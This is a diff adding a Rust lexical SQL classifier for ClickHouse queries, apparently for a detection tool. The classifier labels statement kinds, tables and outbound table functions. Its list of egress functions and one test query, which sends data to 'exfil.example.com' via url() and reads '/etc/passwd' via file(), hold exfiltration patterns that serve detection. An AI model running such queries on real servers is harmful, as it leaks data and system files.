@@ -1,0 +1,589 @@
+//! A lexical SQL classifier: what kind of statement, which tables, which table functions and
+//! where they point.
+//!
+//! This is **not** a SQL parser. It tokenizes (skipping comments, string literals, quoted and
+//! backticked identifiers, case-insensitively) and reads keywords in order; it answers
+//! exactly what detection needs and is candid that a determined author can hide a call
+//! from any lexical reader (a view, a dictionary, a UDF). It never fails: garbage classifies
+//! as [`StatementKind::Other`]. Used where query_log's own columns (`query_kind`, `tables`,
+//! `used_table_functions`) are missing, and to cross-check them.
+
+use std::fmt;
+
+use nom::branch::alt;
+use nom::bytes::complete::{tag, take_until, take_while, take_while1};
+use nom::character::complete::anychar;
+use nom::combinator::{map, recognize, value};
+use nom::{IResult, Parser};
+use serde::Serialize;
+
+/// The statement's kind, from its leading keyword(s).
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
+#[serde(rename_all = "snake_case")]
+#[non_exhaustive]
+pub enum StatementKind {
+    /// `SELECT …`, `WITH … SELECT …`, `(SELECT …) UNION …`.
+    Select,
+    /// `SHOW …`.
+    Show,
+    /// `DESCRIBE`/`DESC`.
+    Describe,
+    /// `EXISTS`.
+    Exists,
+    /// `EXPLAIN`.
+    Explain,
+    /// `INSERT INTO table …`.
+    Insert,
+    /// `INSERT INTO [TABLE] FUNCTION f(…) …`: writes to wherever `f` points.
+    InsertIntoFunction,
+    /// `CREATE`, `ATTACH`.
+    Create,
+    /// `ALTER`.
+    Alter,
+    /// `DROP`, `DETACH`, `TRUNCATE`, `UNDROP`.
+    Drop,
+    /// `RENAME`, `EXCHANGE`.
+    Rename,
+    /// `GRANT`, `REVOKE`.
+    Grant,
+    /// `SYSTEM`.
+    System,
+    /// `SET`, `USE`.
+    Set,
+    /// `KILL`.
+    Kill,
+    /// `OPTIMIZE`, `CHECK`.
+    Optimize,
+    /// `BACKUP`, `RESTORE`.
+    Backup,
+    /// Anything else, including text that is not SQL.
+    Other,
+}
+
+impl StatementKind {
+    /// Whether the statement reads data or metadata and returns it to the client.
+    #[must_use]
+    pub fn is_read(self) -> bool {
+        matches!(
+            self,
+            Self::Select | Self::Show | Self::Describe | Self::Exists
+        )
+    }
+
+    /// The kind as ClickHouse's `query_kind` column would name it.
+    #[must_use]
+    pub fn from_query_kind(kind: &str) -> Option<Self> {
+        Some(match kind {
+            "Select" => Self::Select,
+            "Show" => Self::Show,
+            "Describe" => Self::Describe,
+            "Exists" => Self::Exists,
+            "Explain" => Self::Explain,
+            "Insert" => Self::Insert,
+            "Create" => Self::Create,
+            "Alter" | "Delete" | "Update" => Self::Alter,
+            "Drop" | "Undrop" => Self::Drop,
+            "Rename" => Self::Rename,
+            "Grant" | "Revoke" => Self::Grant,
+            "System" => Self::System,
+            "Set" | "Use" => Self::Set,
+            "KillQuery" => Self::Kill,
+            "Optimize" | "Check" => Self::Optimize,
+            "Backup" | "Restore" => Self::Backup,
+            _ => return None,
+        })
+    }
+}
+
+impl fmt::Display for StatementKind {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let s = serde_json::to_value(self).ok();
+        f.write_str(s.as_ref().and_then(|v| v.as_str()).unwrap_or("other"))
+    }
+}
+
+/// A table function call and, where the text shows it, where it reaches.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
+pub struct TableFunction {
+    /// The function name, lower-cased (`url`, `s3`, `remote`, …).
+    pub name: String,
+    /// The host (or cluster name, or path for `file`) from its first argument, if literal.
+    pub destination: Option<String>,
+}
+
+/// What the classifier learned about one query.
+#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
+pub struct QueryClass {
+    /// Statement kind.
+    pub kind: Option<StatementKind>,
+    /// Tables named after `FROM`/`JOIN` (`db.table` or `table`), in order, without duplicates.
+    pub tables: Vec<String>,
+    /// Table functions called anywhere in the statement.
+    pub table_functions: Vec<TableFunction>,
+    /// `INTO OUTFILE` appears.
+    pub into_outfile: bool,
+    /// `SELECT *` (or `SELECT DISTINCT *`) appears.
+    pub select_star: bool,
+    /// A `LIMIT` clause appears.
+    pub has_limit: bool,
+    /// The output format named by `FORMAT x`.
+    pub format: Option<String>,
+}
+
+impl QueryClass {
+    /// The statement kind, [`StatementKind::Other`] when unknown.
+    #[must_use]
+    pub fn kind(&self) -> StatementKind {
+        self.kind.unwrap_or(StatementKind::Other)
+    }
+}
+
+/// A lexical token.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Tok<'q> {
+    Word(&'q str),
+    /// A backticked or double-quoted identifier (content without quotes).
+    Quoted(&'q str),
+    /// A single-quoted string literal (content without quotes, escapes not decoded).
+    Str(&'q str),
+    Punct(char),
+    Skip,
+}
+
+fn block_comment(i: &str) -> IResult<&str, &str> {
+    recognize((tag("/*"), take_until("*/"), tag("*/"))).parse(i)
+}
+
+fn line_comment(i: &str) -> IResult<&str, &str> {
+    recognize((alt((tag("--"), tag("#"))), take_while(|c| c != '\n'))).parse(i)
+}
+
+/// A quoted run with backslash escapes and doubled-quote escapes; an unterminated run
+/// swallows the rest of the input (the statement is broken anyway).
+fn quoted(q: char) -> impl Fn(&str) -> IResult<&str, &str> {
+    move |i: &str| {
+        let (rest, _) = nom::character::complete::char(q)(i)?;
+        let mut chars = rest.char_indices();
+        while let Some((idx, c)) = chars.next() {
+            if c == '\\' {
+                chars.next();
+            } else if c == q {
+                let after = rest.get(idx + c.len_utf8()..).unwrap_or_default();
+                if after.starts_with(q) {
+                    chars.next();
+                    continue;
+                }
+                return Ok((after, rest.get(..idx).unwrap_or_default()));
+            }
+        }
+        Ok(("", rest))
+    }
+}
+
+fn token(i: &str) -> IResult<&str, Tok<'_>> {
+    alt((
+        value(Tok::Skip, take_while1(char::is_whitespace)),
+        value(Tok::Skip, block_comment),
+        value(Tok::Skip, line_comment),
+        map(quoted('\''), Tok::Str),
+        map(quoted('`'), Tok::Quoted),
+        map(quoted('"'), Tok::Quoted),
+        map(
+            take_while1(|c: char| c.is_alphanumeric() || c == '_' || c == '$'),
+            Tok::Word,
+        ),
+        map(anychar, Tok::Punct),
+    ))
+    .parse(i)
+}
+
+/// Significant tokens of a query, comments and whitespace dropped.
+fn tokens(q: &str) -> impl Iterator<Item = Tok<'_>> {
+    let mut rest = q;
+    std::iter::from_fn(move || loop {
+        if rest.is_empty() {
+            return None;
+        }
+        match token(rest) {
+            Ok((r, t)) => {
+                rest = r;
+                if t != Tok::Skip {
+                    return Some(t);
+                }
+            }
+            // An unterminated `/*` comment: the rest is comment.
+            Err(_) => rest = "",
+        }
+    })
+}
+
+/// Table functions that can reach beyond the server's own tables.
+pub const EGRESS_FUNCTIONS: &[&str] = &[
+    "url",
+    "urlcluster",
+    "s3",
+    "s3cluster",
+    "gcs",
+    "oss",
+    "cosn",
+    "azureblobstorage",
+    "azureblobstoragecluster",
+    "hdfs",
+    "hdfscluster",
+    "remote",
+    "remotesecure",
+    "cluster",
+    "clusterallreplicas",
+    "mysql",
+    "postgresql",
+    "mongodb",
+    "redis",
+    "jdbc",
+    "odbc",
+    "sqlite",
+    "file",
+    "filecluster",
+    "filesystem",
+    "executable",
+    "iceberg",
+    "iceberglocal",
+    "icebergs3",
+    "icebergazure",
+    "iceberghdfs",
+    "icebergcluster",
+    "icebergs3cluster",
+    "icebergazurecluster",
+    "iceberghdfscluster",
+    "deltalake",
+    "deltalakecluster",
+    "deltalakes3",
+    "deltalakeazure",
+    "deltalakelocal",
+    "hudi",
+    "hudicluster",
+    "paimon",
+    "paimoncluster",
+    "arrowflight",
+    "ytsaurus",
+    "bigquery",
+    "prometheusquery",
+    "prometheusqueryrange",
+];
+
+fn is_egress_function(lower: &str) -> bool {
+    EGRESS_FUNCTIONS.contains(&lower)
+}
+
+fn eq(word: &str, kw: &str) -> bool {
+    word.eq_ignore_ascii_case(kw)
+}
+
+/// Classifies a query. Never fails; see the module docs for what it cannot see.
+#[must_use]
+pub fn classify(query: &str) -> QueryClass {
+    let toks: Vec<Tok<'_>> = tokens(query).collect();
+    let mut class = QueryClass {
+        kind: Some(leading_kind(&toks)),
+        ..QueryClass::default()
+    };
+    let mut depth = 0i32;
+    for (i, t) in toks.iter().enumerate() {
+        let next = |k: usize| toks.get(i + k).copied();
+        match *t {
+            Tok::Punct('(') => depth += 1,
+            Tok::Punct(')') => depth -= 1,
+            Tok::Word(w) => {
+                if next(1) == Some(Tok::Punct('(')) {
+                    let lower = w.to_ascii_lowercase();
+                    let after_function_kw =
+                        i > 0 && matches!(toks.get(i - 1), Some(Tok::Word(p)) if eq(p, "FUNCTION"));
+                    if is_egress_function(&lower) || after_function_kw {
+                        let destination =
+                            destination(&lower, toks.get(i + 2..).unwrap_or_default());
+                        if !class
+                            .table_functions
+                            .iter()
+                            .any(|f| f.name == lower && f.destination == destination)
+                        {
+                            class.table_functions.push(TableFunction {
+                                name: lower,
+                                destination,
+                            });
+                        }
+                    }
+                } else if eq(w, "FROM") || eq(w, "JOIN") {
+                    if let Some(table) = table_name(toks.get(i + 1..).unwrap_or_default()) {
+                        if !class.tables.contains(&table) {
+                            class.tables.push(table);
+                        }
+                    }
+                } else if eq(w, "INTO") && matches!(next(1), Some(Tok::Word(o)) if eq(o, "OUTFILE"))
+                {
+                    class.into_outfile = true;
+                } else if eq(w, "SELECT") {
+                    let star_at = if matches!(next(1), Some(Tok::Word(d)) if eq(d, "DISTINCT")) {
+                        2
+                    } else {
+                        1
+                    };
+                    if next(star_at) == Some(Tok::Punct('*')) {
+                        class.select_star = true;
+                    }
+                } else if eq(w, "LIMIT") {
+                    class.has_limit = true;
+                } else if eq(w, "FORMAT") && depth <= 0 {
+                    if let Some(Tok::Word(f)) = next(1) {
+                        class.format = Some(f.to_owned());
+                    }
+                }
+            }
+            _ => {}
+        }
+    }
+    class
+}
+
+fn leading_kind(toks: &[Tok<'_>]) -> StatementKind {
+    let mut words = toks.iter().filter_map(|t| match t {
+        Tok::Word(w) => Some(*w),
+        _ => None,
+    });
+    let first_sig = toks.iter().find(|t| !matches!(t, Tok::Punct('(')));
+    let Some(Tok::Word(first)) = first_sig else {
+        return StatementKind::Other;
+    };
+    let first = first.to_ascii_uppercase();
+    words.next();
+    match first.as_str() {
+        "SELECT" => StatementKind::Select,
+        // WITH … SELECT, WITH … INSERT is not ClickHouse syntax; treat every WITH as a read.
+        "WITH" => StatementKind::Select,
+        "SHOW" => StatementKind::Show,
+        "DESC" | "DESCRIBE" => StatementKind::Describe,
+        "EXISTS" => StatementKind::Exists,
+        "EXPLAIN" => StatementKind::Explain,
+        "INSERT" => {
+            let w: Vec<&str> = words.take(3).collect();
+            let is_fn = match w.as_slice() {
+                [into, f, ..] if eq(into, "INTO") && eq(f, "FUNCTION") => true,
+                [into, t, f] if eq(into, "INTO") && eq(t, "TABLE") && eq(f, "FUNCTION") => true,
+                _ => false,
+            };
+            if is_fn {
+                StatementKind::InsertIntoFunction
+            } else {
+                StatementKind::Insert
+            }
+        }
+        "CREATE" | "ATTACH" | "REPLACE" => StatementKind::Create,
+        "ALTER" | "DELETE" | "UPDATE" => StatementKind::Alter,
+        "DROP" | "DETACH" | "TRUNCATE" | "UNDROP" => StatementKind::Drop,
+        "RENAME" | "EXCHANGE" => StatementKind::Rename,
+        "GRANT" | "REVOKE" => StatementKind::Grant,
+        "SYSTEM" => StatementKind::System,
+        "SET" | "USE" => StatementKind::Set,
+        "KILL" => StatementKind::Kill,
+        "OPTIMIZE" | "CHECK" => StatementKind::Optimize,
+        "BACKUP" | "RESTORE" => StatementKind::Backup,
+        _ => StatementKind::Other,
+    }
+}
+
+/// `db.table` or `table` at the start of `toks`, unless it is a function call or subquery.
+fn table_name(toks: &[Tok<'_>]) -> Option<String> {
+    fn part<'q>(t: Option<&Tok<'q>>) -> Option<&'q str> {
+        match t {
+            Some(Tok::Word(w) | Tok::Quoted(w)) => Some(*w),
+            _ => None,
+        }
+    }
+    let first = part(toks.first())?;
+    if toks.get(1) == Some(&Tok::Punct('(')) {
+        return None;
+    }
+    if toks.get(1) == Some(&Tok::Punct('.')) {
+        let second = part(toks.get(2))?;
+        if toks.get(3) == Some(&Tok::Punct('(')) {
+            return None;
+        }
+        return Some(format!("{first}.{second}"));
+    }
+    // A keyword right after FROM means a subquery or syntax we do not follow.
+    if matches!(toks.first(), Some(Tok::Word(w)) if eq(w, "SELECT") || eq(w, "WITH")) {
+        return None;
+    }
+    Some(first.to_owned())
+}
+
+/// The destination named by a table function's first argument, if it is a literal.
+fn destination(name: &str, args: &[Tok<'_>]) -> Option<String> {
+    let first = match args.first()? {
+        Tok::Str(s) => *s,
+        // remote(host, db.table) may name the host or cluster as a bare identifier.
+        Tok::Word(w) if !matches!(args.get(1), Some(Tok::Punct('('))) => *w,
+        _ => return None,
+    };
+    let host = match name {
+        "file" | "filecluster" | "filesystem" | "sqlite" | "cluster" | "clusterallreplicas"
+        | "executable" => {
+            return Some(first.to_owned());
+        }
+        _ if first.contains("://") => url_host(first),
+        // remote('host:port', …), mysql('host:port', …): one of possibly several `|`/`,` hosts.
+        _ => first.split(['|', ',']).next().map(strip_port),
+    };
+    host.filter(|h| !h.is_empty()).map(str::to_owned)
+}
+
+fn url_host(url: &str) -> Option<&str> {
+    let after = url.split_once("://")?.1;
+    let authority = after.split(['/', '?', '#']).next()?;
+    let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
+    Some(strip_port(host_port))
+}
+
+fn strip_port(hp: &str) -> &str {
+    if let Some(rest) = hp.strip_prefix('[') {
+        return rest.split(']').next().unwrap_or(rest);
+    }
+    match hp.rsplit_once(':') {
+        Some((h, p))
+            if !h.contains(':')
+                && p.chars()
+                    .all(|c| c.is_ascii_digit() || c == '{' || c == '}' || c == '.') =>
+        {
+            h
+        }
+        _ => hp,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn kind(q: &str) -> StatementKind {
+        classify(q).kind()
+    }
+
+    #[test]
+    fn ok_kinds() {
+        let cases = [
+            ("SELECT 1", StatementKind::Select),
+            ("  -- c\n/* x */ select 1", StatementKind::Select),
+            (
+                "WITH a AS (SELECT 1) SELECT * FROM a",
+                StatementKind::Select,
+            ),
+            ("(SELECT 1) UNION ALL (SELECT 2)", StatementKind::Select),
+            ("SHOW TABLES", StatementKind::Show),
+            ("desc system.tables", StatementKind::Describe),
+            ("EXISTS TABLE t", StatementKind::Exists),
+            ("EXPLAIN SELECT 1", StatementKind::Explain),
+            ("INSERT INTO t VALUES (1)", StatementKind::Insert),
+            (
+                "insert into function url('http://x/', 'TSV', 'a String') select 1",
+                StatementKind::InsertIntoFunction,
+            ),
+            (
+                "INSERT INTO TABLE FUNCTION remote('h:9000', db.t) SELECT 1",
+                StatementKind::InsertIntoFunction,
+            ),
+            (
+                "CREATE TABLE t (a Int8) ENGINE = Memory",
+                StatementKind::Create,
+            ),
+            ("ALTER TABLE t DELETE WHERE 1", StatementKind::Alter),
+            ("DROP TABLE t", StatementKind::Drop),
+            ("TRUNCATE TABLE t", StatementKind::Drop),
+            ("RENAME TABLE a TO b", StatementKind::Rename),
+            ("GRANT SELECT ON *.* TO u", StatementKind::Grant),
+            ("REVOKE ALL ON *.* FROM u", StatementKind::Grant),
+            ("SYSTEM FLUSH LOGS", StatementKind::System),
+            ("SET max_threads = 1", StatementKind::Set),
+            ("USE db", StatementKind::Set),
+            ("KILL QUERY WHERE 1", StatementKind::Kill),
+            ("OPTIMIZE TABLE t FINAL", StatementKind::Optimize),
+            (
+                "BACKUP TABLE t TO Disk('b', '1.zip')",
+                StatementKind::Backup,
+            ),
+            ("", StatementKind::Other),
+            ("\u{0}\u{1}garbage(", StatementKind::Other),
+        ];
+        for (q, k) in cases {
+            assert_eq!(kind(q), k, "{q}");
+        }
+    }
+
+    #[test]
+    fn ok_tables_and_star() {
+        let c = classify("SELECT * FROM default.log_stream AS l JOIN `db`.`t 2` USING id LIMIT 10 FORMAT JSONEachRow");
+        assert_eq!(c.tables, ["default.log_stream", "db.t 2"]);
+        assert!(c.select_star && c.has_limit);
+        assert_eq!(c.format.as_deref(), Some("JSONEachRow"));
+        let c = classify("SELECT name FROM system.tables WHERE x = 'FROM secret.table'");
+        assert_eq!(c.tables, ["system.tables"]);
+        assert!(!c.select_star);
+    }
+
+    #[test]
+    fn ok_table_functions_with_destinations() {
+        let c = classify(
+            "INSERT INTO FUNCTION url('https://u:p@exfil.example.com:8443/x?y=1', 'CSV', 'a String') \
+             SELECT * FROM s3('https://bucket.s3.amazonaws.com/k.csv') \
+             UNION ALL SELECT * FROM remote('10.0.0.5:9000', db.t) \
+             UNION ALL SELECT * FROM REMOTESECURE(['h1'], db.t) \
+             UNION ALL SELECT * FROM file('/etc/passwd', 'LineAsString') \
+             UNION ALL SELECT * FROM numbers(10)",
+        );
+        let got: Vec<(&str, Option<&str>)> = c
+            .table_functions
+            .iter()
+            .map(|f| (f.name.as_str(), f.destination.as_deref()))
+            .collect();
+        assert_eq!(
+            got,
+            [
+                ("url", Some("exfil.example.com")),
+                ("s3", Some("bucket.s3.amazonaws.com")),
+                ("remote", Some("10.0.0.5")),
+                ("remotesecure", None),
+                ("file", Some("/etc/passwd")),
+            ]
+        );
+        let c = classify("SELECT * FROM remote('[2001:db8::1]:9000', system.one)");
+        assert_eq!(
+            c.table_functions[0].destination.as_deref(),
+            Some("2001:db8::1")
+        );
+    }
+
+    #[test]
+    fn ok_literals_and_comments_hide_nothing_they_should_not() {
+        let c = classify("SELECT 'url(''http://a/'')' -- url('http://b/')\n, `s3`");
+        assert!(c.table_functions.is_empty());
+        let c = classify("SELECT 1 INTO OUTFILE 'dump.tsv'");
+        assert!(c.into_outfile);
+    }
+
+    #[test]
+    fn ok_survives_megabyte_and_garbage() {
+        let big = format!("SELECT * FROM t WHERE id IN ({})", "1,".repeat(500_000));
+        assert_eq!(classify(&big).tables, ["t"]);
+        for junk in [
+            "'",
+            "`",
+            "\"",
+            "/*",
+            "((((",
+            "FROM",
+            "FROM (",
+            "INSERT INTO",
+            "url(",
+            "\\",
+        ] {
+            let _ = classify(junk);
+        }
+    }
+}
